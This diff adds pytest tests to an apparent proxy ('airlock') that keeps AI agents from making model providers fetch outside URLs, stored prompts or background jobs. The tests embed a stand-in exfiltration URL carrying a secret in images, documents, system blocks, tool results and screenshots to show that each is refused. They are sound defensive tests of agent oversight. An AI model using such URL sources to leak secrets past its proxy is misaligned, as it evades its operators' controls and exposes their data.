@@ -978,3 +978,116 @@ def test_cleartext_before_the_tls_handshake_is_refused(harnesses: list[Harness],
     assert resp.status_code == 502 and b"forged" not in resp.content
     t.join(5)
     srv.close()
+
+
+# -- provider-side fetches ----------------------------------------------------------------
+
+EXFIL = "https://exfil.example/leak?secret=abc"
+PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+
+
+def _anthropic_url_bodies() -> list[dict[str, Any]]:
+    image = {"type": "image", "source": {"type": "url", "url": EXFIL}}
+    document = {"type": "document", "source": {"type": "url", "url": EXFIL}}
+    base = {"model": "sonnet", "max_tokens": 5}
+    return [
+        {**base, "messages": [{"role": "user", "content": [image]}]},
+        {**base, "messages": [{"role": "user", "content": [document]}]},
+        {**base, "system": [{"type": "text", "text": "s"}, document],
+         "messages": [{"role": "user", "content": "hi"}]},
+        {**base, "messages": [
+            {"role": "user", "content": "hi"},
+            {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "f",
+                                               "input": {}}]},
+            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
+                                          "content": [image]}]}]},
+        {**base, "messages": [{"role": "user", "content": [
+            {"type": "document", "source": {"type": "content", "content": [image]}}]}]},
+    ]
+
+
+def test_anthropic_url_sources_are_refused_anywhere(harnesses: list[Harness],
+                                                    loop: LoopThread, sockdir: Path) -> None:
+    with ScriptedProvider([{"text": "ok"}] * 2, api_key=KEY) as up:
+        h = make(harnesses, loop, sockdir, anthropic_policy(up.url))
+        client = h.anthropic()
+        with pytest.raises(anthropic.PermissionDeniedError) as err:
+            client.messages.create(model="sonnet", max_tokens=5, messages=[
+                {"role": "user", "content": [{"type": "image", "source": {
+                    "type": "url", "url": EXFIL}}]}])
+        assert "provider.url_sources" in err.value.body["error"]["message"]
+        for body in _anthropic_url_bodies():
+            assert h.http.post("/v1/messages", json=body).status_code == 403, body
+        # Base64 images and plain-text documents are the agent's own bytes: they pass.
+        ok = client.messages.create(model="sonnet", max_tokens=5, messages=[
+            {"role": "user", "content": [
+                {"type": "image", "source": {"type": "base64", "media_type": "image/png",
+                                             "data": PNG}},
+                {"type": "document", "source": {"type": "text", "media_type": "text/plain",
+                                                "data": "some text"}}]}])
+        assert ok.content[0].text == "ok"
+        refused = h.of("provider.refused")
+        assert [r["reason"] for r in refused] == ["url_source"] * 6
+        assert refused[0]["where"] == "messages[0].content[0].source"
+        assert refused[3]["where"] == "system[1].source"
+        assert refused[4]["where"] == "messages[2].content[0].content[0].source"
+        assert len(up.requests) == 1 and EXFIL not in up.requests[0].raw.decode()
+        assert h.budgets.used["requests"] == 1
+
+
+def test_openai_url_sources_stored_prompts_and_background_are_refused(
+        harnesses: list[Harness], loop: LoopThread, sockdir: Path) -> None:
+    with ScriptedProvider([{"text": "fine"}] * 4, api_key=KEY) as up:
+        h = make(harnesses, loop, sockdir, openai_policy(up.url))
+        client = h.openai()
+        chat_image = {"type": "image_url", "image_url": {"url": EXFIL}}
+        with pytest.raises(openai.PermissionDeniedError) as err:
+            client.chat.completions.create(model="gpt-5", messages=[
+                {"role": "user", "content": [chat_image]}])  # type: ignore[list-item]
+        assert err.value.code == "airlock_url_source"
+        refusals: list[tuple[str, dict[str, Any]]] = [
+            ("/v1/chat/completions", {"model": "gpt-5", "messages": [
+                {"role": "user", "content": [{"type": "file", "file": {"file_url": EXFIL}}]}]}),
+            ("/v1/responses", {"model": "gpt-5", "input": [{"role": "user", "content": [
+                {"type": "input_image", "image_url": EXFIL}]}]}),
+            ("/v1/responses", {"model": "gpt-5", "input": [{"role": "user", "content": [
+                {"type": "input_file", "file_url": EXFIL}]}]}),
+            ("/v1/responses", {"model": "gpt-5", "input": [
+                {"type": "function_call_output", "call_id": "c1", "output": [
+                    {"type": "input_image", "image_url": "HTTP://exfil.example/x"}]}]}),
+            ("/v1/responses", {"model": "gpt-5", "input": [
+                {"type": "computer_call_output", "call_id": "c2", "output": {
+                    "type": "computer_screenshot", "image_url": EXFIL}}]}),
+            ("/v1/responses", {"model": "gpt-5", "input": "x",
+                               "prompt": {"id": "pmpt_1", "version": "2"}}),
+            ("/v1/responses", {"model": "gpt-5", "input": "x", "background": True}),
+        ]
+        for path, body in refusals:
+            assert h.http.post(path, json=body).status_code == 403, body
+        # data: URLs are the agent's own bytes
+        data_url = f"data:image/png;base64,{PNG}"
+        ok = client.chat.completions.create(model="gpt-5", messages=[
+            {"role": "user", "content": [{"type": "image_url", "image_url": {"url": data_url}}]}])
+        assert ok.choices[0].message.content == "fine"
+        r = client.responses.create(model="gpt-5", input=[{"role": "user", "content": [
+            {"type": "input_image", "image_url": data_url, "detail": "auto"}]}],
+            background=False)
+        assert r.output_text == "fine"
+        assert [r["reason"] for r in h.of("provider.refused")] == (
+            ["url_source"] * 6 + ["stored_prompt", "background"])
+        assert len(up.requests) == 2
+        assert not any("exfil.example" in u.raw.decode() for u in up.requests)
+
+
+def test_policy_can_allow_url_sources_and_stored_prompts(harnesses: list[Harness],
+                                                         loop: LoopThread,
+                                                         sockdir: Path) -> None:
+    with ScriptedProvider([{"text": "fine"}] * 2, api_key=KEY) as up:
+        h = make(harnesses, loop, sockdir, openai_policy(up.url, url_sources=True,
+                                                         stored_prompts=True))
+        assert h.http.post("/v1/responses", json={"model": "gpt-5", "input": [
+            {"role": "user", "content": [{"type": "input_image", "image_url": EXFIL}]}],
+        }).status_code == 200
+        assert h.http.post("/v1/responses", json={
+            "model": "gpt-5", "input": "x", "prompt": {"id": "pmpt_1"}}).status_code == 200
+        assert h.of("provider.refused") == [] and len(up.requests) == 2
